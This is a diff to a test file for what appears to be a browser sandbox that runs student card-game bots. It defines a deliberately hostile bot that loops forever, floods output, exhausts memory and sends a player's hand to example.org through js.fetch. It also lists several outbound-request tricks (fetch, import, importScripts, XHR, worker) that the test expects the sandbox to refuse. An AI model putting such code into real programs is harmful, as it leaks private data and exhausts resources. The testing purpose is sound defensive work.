@@ -21,8 +21,6 @@ if TYPE_CHECKING:
     from playwright.sync_api import BrowserContext, Page
 
 HOSTILE = """
-MEMORY = []
-
 def comp10001huxxy_play(history, player, hand, table):
     if len(history) < 4 + player:
         return player, 0, None
@@ -31,19 +29,19 @@ def comp10001huxxy_play(history, player, hand, table):
             pass
     if player == 1:
         while True:
-            print("x" * 99_999_999)
+            print("x" * (1 << 20))
     if player == 2:
         import js
+        from pyodide.ffi import run_sync
         return js.fetch("https://example.org/?" + hand[0])
-    while True:
-        MEMORY.append(bytearray(1 << 24))
+    return bytearray(1 << 30)
 """
-"""Loops, prints without end, asks for what is not its own, and takes all memory: by its seat."""
+"""Loops, prints without end, asks for what is not its own, and takes more memory than it has: by its seat."""
 REASONS = (
     "a play took longer than 2 s",
     "it printed more than 64 KiB over one play",
-    "AttributeError: fetch, line 15",
-    "MemoryError, line 17",
+    "AttributeError: fetch, line 14",
+    "MemoryError, line 15",
 )
 PICKS = "def comp10001huxxy_play(history, player, hand, table):\n    return player, 0, None\n"
 
@@ -120,6 +118,7 @@ TRIES = """
 const tries = {
     fetch: () => fetch(OUT, { mode: "no-cors" }),
     import: () => import(OUT + "x.js"),
+    script: () => importScripts(OUT + "x.js"),
     request: () => new Promise((ok, lost) => {
         const one = new XMLHttpRequest();
         one.onload = ok;
@@ -138,8 +137,8 @@ const tries = {
         one.onerror = () => lost(new Error("refused"));
     }),
     worker: () => new Promise((ok, lost) => {
-        const asks = `fetch("${OUT}").then(() => postMessage(1), () => postMessage(0))`;
-        const one = new Worker("data:text/javascript," + encodeURIComponent(asks));
+        const text = `fetch("${OUT}").then(() => postMessage(1), () => postMessage(0))`;
+        const one = new Worker("data:text/javascript," + encodeURIComponent(text));
         one.onmessage = ({ data }) => (data ? ok() : lost(new Error("refused")));
         one.onerror = () => lost(new Error("refused"));
     }),
@@ -184,5 +183,5 @@ def test_the_policy_lets_no_request_out_of_a_bots_worker(watched: tuple[Page, Wa
     )
     outside.shutdown()
     outside.server_close()
-    names = ("fetch", "import", "request", "socket", "events", "worker", "database", "caches")
+    names = ("fetch", "import", "script", "request", "socket", "events", "worker", "database", "caches")
     assert (told, heard) == (dict.fromkeys(names, "refused") | {"origin": "null"}, [])
